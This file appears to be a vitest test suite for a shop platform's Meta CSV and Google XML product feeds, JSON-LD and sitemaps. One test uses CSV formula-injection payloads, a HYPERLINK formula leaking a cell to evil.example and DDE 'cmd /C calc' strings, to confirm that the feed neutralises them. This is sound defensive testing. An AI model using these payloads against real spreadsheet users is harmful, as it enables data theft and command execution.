import { parse as parseCsv } from 'csv-parse/sync';
import { XMLParser, XMLValidator } from 'fast-xml-parser';
import express from 'express';
import request from 'supertest';
import { beforeAll, describe, expect, it } from 'vitest';
import { apiPaths } from '@vitrine/shared/api-paths';
import type { Produto } from '@vitrine/shared';
import { ATENDIMENTO_EXEMPLO } from '../../../test/support/atendimento.js';
import { umaCamisetaComGrade, umaPizzaMeioAMeio, umCombo } from '../../../test/support/produtos.js';
import { readEnv } from '../../src/config/env.js';
import { feedsRoutes } from '../../src/features/public-feeds/routes.js';
import { feedsRepository } from '../../src/features/public-feeds/repository.js';
import { publicCatalogoService } from '../../src/features/public-catalogo/service.js';
import { catalogosRepository } from '../../src/model/catalogos.js';
import { produtoDoc, produtosRepository } from '../../src/model/produtos.js';
import { createPreviewApp } from '../../src/preview-app.js';
import { createAdmin } from './admin-helpers.js';
import { firestore, testApp } from '../../../test/support/api.js';
import { configurarAtendimento, novaLoja, type LojaDeTeste } from '../../../test/support/lojas.js';

/** The built web app's index.html, as Hosting serves it. */
const INDEX_HTML = `<!doctype html>
<html lang="pt-BR">
  <head>
    <meta charset="UTF-8" />
    <title>Vitrine</title>
  </head>
  <body><div id="root"></div></body>
</html>`;

const preview = createPreviewApp(readEnv(), { db: firestore() }, async () => INDEX_HTML);
const ORIGEM = 'https://vitrine.exemplo.com.br';
/** As Hosting forwards a channel's or a crawler's request. */
const abrir = (path: string) =>
  request(preview).get(path).set('X-Forwarded-Host', 'vitrine.exemplo.com.br').set('X-Forwarded-Proto', 'https');

/** Every character a name may hold that a CSV, an XML or a script would choke on. */
const NOME_HOSTIL = `Bolo "da vó"; <b>&</b>, fatia
com </script> e acento`;

let loja: LojaDeTeste;
beforeAll(async () => {
  loja = await novaLoja(testApp(), {
    nome_loja: 'Doces & Cia "da Rua"',
    loja: { mensagem_personalizada: 'Doces caseiros.', endereco: 'Rua das Flores, 12 — Centro' },
    produtos: [
      { nome: 'Brigadeiro', preco: 2.5, descricao: 'De colher.', imagem_url: '/api/imagens/x/brigadeiro-800.webp' },
      { nome: NOME_HOSTIL, preco: 12.9, descricao: 'Linha 1\nLinha 2, com "aspas"' },
      { nome: 'Pudim', preco: 30, estoque: 1 },
      { nome: 'Oculto', preco: 1, ativo: false },
    ],
  });
  // On sale: the feeds carry the sale price beside the price.
  const brigadeiro = loja.produtos[0]!;
  const promocao = await request(testApp()).put(`/api/produtos/${brigadeiro.id}`).set('Cookie', loja.cookie).send({ preco_promocional: 2 });
  expect(promocao.status).toBe(200);
  await configurarAtendimento(testApp(), loja, {
    ...ATENDIMENTO_EXEMPLO,
    horarios: [{ dia: 1, abre: '08:00', fecha: '18:00' }],
  });
});

const linhasDoMeta = async (slug: string) => {
  const response = await abrir(`/loja/${slug}/feed/meta.csv`);
  expect(response.status, response.text).toBe(200);
  return parseCsv(response.text, { columns: true }) as Record<string, string>[];
};

const itensDoGoogle = async (slug: string) => {
  const response = await abrir(`/loja/${slug}/feed/google.xml`);
  expect(response.status, response.text).toBe(200);
  expect(XMLValidator.validate(response.text)).toBe(true);
  const xml = new XMLParser({ parseTagValue: false }).parse(response.text) as {
    rss: { channel: { title: string; item: Record<string, string>[] | Record<string, string> } };
  };
  const { item } = xml.rss.channel;
  return { canal: xml.rss.channel, itens: Array.isArray(item) ? item : [item] };
};

describe('Feeds de produtos: Meta (CSV) e Google (XML)', () => {
  it('when Meta reads the CSV feed, then a parser finds one row per active product with prices, sale price, links, picture and brand', async () => {
    const response = await abrir(`/loja/${loja.slug}/feed/meta.csv`);
    expect(response.headers['content-type']).toMatch(/^text\/csv/);
    expect(response.headers['cache-control']).toBe('public, max-age=60, s-maxage=300');
    const linhas = await linhasDoMeta(loja.slug);
    expect(linhas.map((linha) => linha.id)).toEqual(loja.produtos.slice(0, 3).map((produto) => produto.id));
    expect(linhas[0]).toEqual({
      id: loja.produtos[0]!.id,
      title: 'Brigadeiro',
      description: 'De colher.',
      availability: 'in stock',
      condition: 'new',
      price: '2.50 BRL',
      sale_price: '2.00 BRL',
      link: `${ORIGEM}/loja/${loja.slug}/produto/${loja.produtos[0]!.id}`,
      image_link: `${ORIGEM}/api/imagens/x/brigadeiro-800.webp`,
      brand: 'Doces & Cia "da Rua"',
      item_group_id: '',
      size: '',
      color: '',
    });
    // Quotes, semicolons, commas and line breaks survive: the title on one line, the description as typed.
    expect(linhas[1]).toMatchObject({
      title: NOME_HOSTIL.replace(/\s+/g, ' '),
      description: 'Linha 1\nLinha 2, com "aspas"',
      price: '12.90 BRL',
      sale_price: '',
    });
  });

  it('when a product’s name or description is a spreadsheet formula, then the Meta feed writes it as text, as the owner’s export does', async () => {
    const formulas = ['=HYPERLINK("http://evil.example/?"&A1,"Clique")', "@SUM(1+1)*cmd|' /C calc'!A0"];
    const hostil = await novaLoja(testApp(), {
      nome_loja: '+Loja @Fórmula',
      produtos: [
        { nome: formulas[0]!, preco: 10, descricao: "-2+3+cmd|' /C calc'!A0" },
        { nome: formulas[1]!, preco: 20, descricao: '+55 11 98888-7777' },
      ],
    });
    const response = await abrir(`/loja/${hostil.slug}/feed/meta.csv`);
    expect(response.status, response.text).toBe(200);
    const celulas = (parseCsv(response.text) as string[][]).flat();
    expect(celulas.filter((celula) => /^[=+\-@\t\r]/.test(celula))).toEqual([]);
    // An apostrophe first: every spreadsheet reads the cell as text and does not show it.
    const linhas = await linhasDoMeta(hostil.slug);
    expect(linhas.map((linha) => linha.title)).toEqual(formulas.map((formula) => `'${formula}`));
    expect(linhas.map((linha) => linha.description)).toEqual(["'-2+3+cmd|' /C calc'!A0", "'+55 11 98888-7777"]);
    expect(linhas[0]!.brand).toBe("'+Loja @Fórmula");
  });

  it('when Google reads the XML feed, then it is well-formed RSS with the g: fields, every hostile text escaped', async () => {
    const { canal, itens } = await itensDoGoogle(loja.slug);
    expect(canal.title).toBe('Doces & Cia "da Rua"');
    expect(itens).toHaveLength(3);
    expect(itens[0]).toMatchObject({
      'g:id': loja.produtos[0]!.id,
      'g:title': 'Brigadeiro',
      'g:availability': 'in_stock',
      'g:price': '2.50 BRL',
      'g:sale_price': '2.00 BRL',
      'g:condition': 'new',
      'g:brand': 'Doces & Cia "da Rua"',
      'g:link': `${ORIGEM}/loja/${loja.slug}/produto/${loja.produtos[0]!.id}`,
      'g:image_link': `${ORIGEM}/api/imagens/x/brigadeiro-800.webp`,
    });
    expect(itens[1]!['g:title']).toBe(NOME_HOSTIL.replace(/\s+/g, ' '));
  });

  it('when a product has a grade (issue 30), then both feeds list each variant in its product’s group, with its size, colour, price and stock', async () => {
    const moda = await novaLoja(testApp(), { nome_loja: 'Moda da Bia' });
    const criada = await request(testApp()).post('/api/produtos').set('Cookie', moda.cookie).send(umaCamisetaComGrade());
    expect(criada.status).toBe(201);
    const camiseta = criada.body as Produto;
    const linhas = await linhasDoMeta(moda.slug);
    expect(linhas).toHaveLength(6);
    const idDe = (tamanho: string, cor: string) =>
      `${camiseta.id}-${camiseta.variacoes!.itens.find((item) => item.valores.join() === `${tamanho},${cor}`)!.id}`;
    expect(linhas.find((linha) => linha.id === idDe('M', 'Preto'))).toMatchObject({
      title: 'Camiseta Básica — M / Preto',
      item_group_id: camiseta.id,
      size: 'M',
      color: 'Preto',
      price: '54.90 BRL',
      availability: 'in stock',
    });
    expect(linhas.find((linha) => linha.id === idDe('G', 'Azul'))).toMatchObject({ availability: 'out of stock', price: '49.90 BRL' });
    const { itens } = await itensDoGoogle(moda.slug);
    expect(itens.find((item) => item['g:id'] === idDe('P', 'Azul'))).toMatchObject({
      'g:item_group_id': camiseta.id,
      'g:size': 'P',
      'g:color': 'Azul',
      'g:availability': 'in_stock',
    });
  });

  it('when a pizza is priced by its flavours (base R$ 0), then both feeds list it at the lowest a customer can pay, its cheapest flavour, as its card says', async () => {
    const pizzaria = await novaLoja(testApp(), { nome_loja: 'Pizzaria do Beto' });
    const criada = await request(testApp()).post('/api/produtos').set('Cookie', pizzaria.cookie).send(umaPizzaMeioAMeio('media'));
    expect(criada.status).toBe(201);
    const [linha] = await linhasDoMeta(pizzaria.slug);
    expect(linha).toMatchObject({ title: 'Pizza grande', price: '45.90 BRL', sale_price: '' });
    const { itens } = await itensDoGoogle(pizzaria.slug);
    expect(itens[0]).toMatchObject({ 'g:title': 'Pizza grande', 'g:price': '45.90 BRL' });
    expect(itens[0]).not.toHaveProperty('g:sale_price');
  });

  it('when a crawler asks a grade shop’s feed with ever new query strings (passing the CDN), then it is made once per published catalogue, and a publish shows at once', async () => {
    const moda = await novaLoja(testApp(), { nome_loja: 'Moda da Lia' });
    const criada = await request(testApp()).post('/api/produtos').set('Cookie', moda.cookie).send(umaCamisetaComGrade());
    expect(criada.status).toBe(201);
    const camiseta = criada.body as Produto;
    const gAzul = camiseta.variacoes!.itens.find((item) => item.valores.join() === 'G,Azul')!;
    // The feeds over a catalogue this instance keeps by a clock that stands still: the 5 s it keeps
    // a document do not run out mid-test on a slow machine (only a publish clears it).
    const parado = Date.now();
    const catalogoParado = publicCatalogoService({
      catalogos: catalogosRepository(firestore(), { now: () => parado }),
      produtos: produtosRepository(firestore()),
    });
    const feedsParados = express().use(feedsRoutes({ catalogos: catalogoParado, feeds: feedsRepository(firestore()) }, readEnv()));
    const disponibilidade = async (consulta: string) => {
      // One host, as Hosting forwards it (a server per supertest request has a port of its own).
      const response = await request(feedsParados)
        .get(`/loja/${moda.slug}/feed/meta.csv?${consulta}`)
        .set('Host', 'vitrine.exemplo.com.br');
      expect(response.status, response.text).toBe(200);
      const linhas = parseCsv(response.text, { columns: true }) as Record<string, string>[];
      return linhas.find((linha) => linha.id === `${camiseta.id}-${gAzul.id}`)?.availability;
    };
    expect(await disponibilidade('v=1')).toBe('out of stock');
    // The product changes behind the API's back (no publish): a feed that re-read the grades would see it.
    const itens = camiseta.variacoes!.itens.map((item) => (item.id === gAzul.id ? { ...item, estoque: 4 } : item));
    await produtoDoc(firestore(), moda.lojaId, camiseta.id).update({ 'variacoes.itens': itens });
    for (const consulta of ['v=2', 'utm_source=x', 'v=3']) expect(await disponibilidade(consulta)).toBe('out of stock');
    // The owner's save publishes: the next feed is made again and reads the grade.
    const salvo = await request(testApp())
      .put(`/api/produtos/${camiseta.id}`)
      .set('Cookie', moda.cookie)
      .send({ nome: 'Camiseta Básica Lisa' });
    expect(salvo.status).toBe(200);
    expect(await disponibilidade('v=4')).toBe('in stock');
  });

  it('when a product sells out, then both feeds say so at once', async () => {
    const pudim = loja.produtos[2]!;
    // The owner marks it sold out (as the last unit's order does: public-pedido's tests).
    const esgotado = await request(testApp()).put(`/api/produtos/${pudim.id}`).set('Cookie', loja.cookie).send({ esgotado: true });
    expect(esgotado.status).toBe(200);
    expect((await linhasDoMeta(loja.slug)).find((linha) => linha.id === pudim.id)?.availability).toBe('out of stock');
    expect((await itensDoGoogle(loja.slug)).itens.find((item) => item['g:id'] === pudim.id)?.['g:availability']).toBe('out_of_stock');
  });

  it('when a shop sells a combo (issue 47), then both feeds list it as a product at its own price, out of stock once an item sells out', async () => {
    const lanches = await novaLoja(testApp(), {
      produtos: [
        { nome: 'X-Burger', preco: 30 },
        { nome: 'Batata frita', preco: 12 },
      ],
    });
    const [burger, batata] = lanches.produtos;
    const combo = await request(testApp())
      .post('/api/produtos')
      .set('Cookie', lanches.cookie)
      .send(
        umCombo(
          [
            [burger!.id, 2],
            [batata!.id, 1],
          ],
          { preco: 49.9 },
        ),
      );
    expect(combo.status).toBe(201);
    const id = (combo.body as Produto).id;
    const linha = (await linhasDoMeta(lanches.slug)).find((candidata) => candidata.id === id);
    expect(linha).toMatchObject({ title: 'Combo Casal', price: '49.90 BRL', availability: 'in stock' });
    expect((await itensDoGoogle(lanches.slug)).itens.find((item) => item['g:id'] === id)?.['g:price']).toBe('49.90 BRL');

    const esgotada = await request(testApp()).put(`/api/produtos/${batata!.id}`).set('Cookie', lanches.cookie).send({ esgotado: true });
    expect(esgotada.status).toBe(200);
    expect((await linhasDoMeta(lanches.slug)).find((candidata) => candidata.id === id)?.availability).toBe('out of stock');
    expect((await itensDoGoogle(lanches.slug)).itens.find((item) => item['g:id'] === id)?.['g:availability']).toBe('out_of_stock');
  });

  it('when the owner turns the feeds off, or the admin suspends the shop, then both feeds answer 404', async () => {
    const outra = await novaLoja(testApp(), { nome_loja: 'Sucos', produtos: [{ nome: 'Suco', preco: 8 }] });
    const canais = (corpo: object) => request(testApp()).put(`/api${apiPaths.lojaCanais}`).set('Cookie', outra.cookie).send(corpo);
    expect((await request(testApp()).get(`/api${apiPaths.lojaCanais}`).set('Cookie', outra.cookie)).body).toEqual({ feeds_ativos: true });
    expect((await canais({ feeds_ativos: 'não' })).status).toBe(400);
    expect((await canais({ feeds_ativos: false })).status).toBe(200);
    expect((await abrir(`/loja/${outra.slug}/feed/meta.csv`)).status).toBe(404);
    expect((await abrir(`/loja/${outra.slug}/feed/google.xml`)).status).toBe(404);
    expect((await canais({ feeds_ativos: true })).status).toBe(200);
    expect((await abrir(`/loja/${outra.slug}/feed/meta.csv`)).status).toBe(200);

    const token = await createAdmin({ app: testApp(), db: firestore() });
    const suspensa = await request(testApp())
      .put(`/api/admin/lojistas/${outra.lojaId}/status`)
      .set('Authorization', `Bearer ${token}`)
      .send({ status: 'suspenso' });
    expect(suspensa.status, JSON.stringify(suspensa.body)).toBe(200);
    expect((await abrir(`/loja/${outra.slug}/feed/meta.csv`)).status).toBe(404);
    expect((await abrir(`/loja/${outra.slug}/feed/google.xml`)).status).toBe(404);
    expect((await abrir('/loja/nao-existe-nunca/feed/meta.csv')).status).toBe(404);
  });
});

describe('Buscadores: JSON-LD, canonical e sitemap', () => {
  const jsonLd = (html: string) => {
    const script = /<script type="application\/ld\+json">([\s\S]*?)<\/script>/.exec(html);
    expect(script, 'JSON-LD').not.toBeNull();
    return JSON.parse(script![1]!) as Record<string, unknown>;
  };

  it('when a crawler opens the shop, then its JSON-LD is the LocalBusiness with hours and offers, and the canonical URL is the slug’s', async () => {
    const response = await abrir(`/catalogo/${loja.lojaId}`);
    expect(response.status).toBe(200);
    expect(response.text).toContain(`<link rel="canonical" href="${ORIGEM}/loja/${loja.slug}" />`);
    // No text of the shop closes the script.
    expect(response.text.match(/<\/script>/g)?.length).toBe(response.text.match(/<script/g)?.length);
    const dados = jsonLd(response.text);
    expect(dados).toMatchObject({
      '@context': 'https://schema.org',
      '@type': 'LocalBusiness',
      name: 'Doces & Cia "da Rua"',
      url: `${ORIGEM}/loja/${loja.slug}`,
      telephone: '+5511999998888',
      address: { '@type': 'PostalAddress', streetAddress: 'Rua das Flores, 12 — Centro' },
      openingHoursSpecification: [
        { '@type': 'OpeningHoursSpecification', dayOfWeek: 'https://schema.org/Monday', opens: '08:00', closes: '18:00' },
      ],
    });
    const ofertas = (dados.hasOfferCatalog as { itemListElement: Record<string, unknown>[] }).itemListElement;
    expect(ofertas.map((oferta) => (oferta.itemOffered as { name: string }).name)).toEqual(['Brigadeiro', NOME_HOSTIL, 'Pudim']);
    expect(ofertas[0]).toMatchObject({ price: '2.00', priceCurrency: 'BRL', availability: 'https://schema.org/InStock' });
  });

  it('when a crawler opens a product page, then its JSON-LD is the Product with its offer', async () => {
    const hostil = loja.produtos[1]!;
    const response = await abrir(`/loja/${loja.slug}/produto/${hostil.id}`);
    expect(response.status).toBe(200);
    expect(response.text).toContain(`<link rel="canonical" href="${ORIGEM}/loja/${loja.slug}/produto/${hostil.id}" />`);
    expect(response.text).not.toContain('</script> e acento');
    expect(jsonLd(response.text)).toMatchObject({
      '@type': 'Product',
      name: NOME_HOSTIL,
      offers: { '@type': 'Offer', price: '12.90', priceCurrency: 'BRL', availability: 'https://schema.org/InStock' },
    });
  });

  it('when a crawler reads the sitemaps, then every URL listed answers 200 and a suspended shop is not listed', async () => {
    const suspensa = await novaLoja(testApp(), { nome_loja: 'Fechada', produtos: [{ nome: 'Coisa', preco: 1 }] });
    const token = await createAdmin({ app: testApp(), db: firestore() });
    await request(testApp())
      .put(`/api/admin/lojistas/${suspensa.lojaId}/status`)
      .set('Authorization', `Bearer ${token}`)
      .send({ status: 'suspenso' });

    const indice = await abrir('/sitemap.xml');
    expect(indice.status).toBe(200);
    expect(XMLValidator.validate(indice.text)).toBe(true);
    const sitemaps = [...indice.text.matchAll(/<loc>([^<]+)<\/loc>/g)].map(([, url]) => url!);
    expect(sitemaps).toContain(`${ORIGEM}/loja/${loja.slug}/sitemap.xml`);
    expect(sitemaps.some((url) => url.includes(suspensa.slug) || url.includes(suspensa.lojaId))).toBe(false);

    const daLoja = await abrir(`/loja/${loja.slug}/sitemap.xml`);
    expect(XMLValidator.validate(daLoja.text)).toBe(true);
    const urls = [...daLoja.text.matchAll(/<loc>([^<]+)<\/loc>/g)].map(([, url]) => url!);
    expect(urls).toEqual([
      `${ORIGEM}/loja/${loja.slug}`,
      ...loja.produtos.slice(0, 3).map((produto) => `${ORIGEM}/loja/${loja.slug}/produto/${produto.id}`),
    ]);
    for (const url of urls) expect((await abrir(url.slice(ORIGEM.length))).status, url).toBe(200);
    expect((await abrir(`/loja/${suspensa.slug}/sitemap.xml`)).status).toBe(404);
  });
});
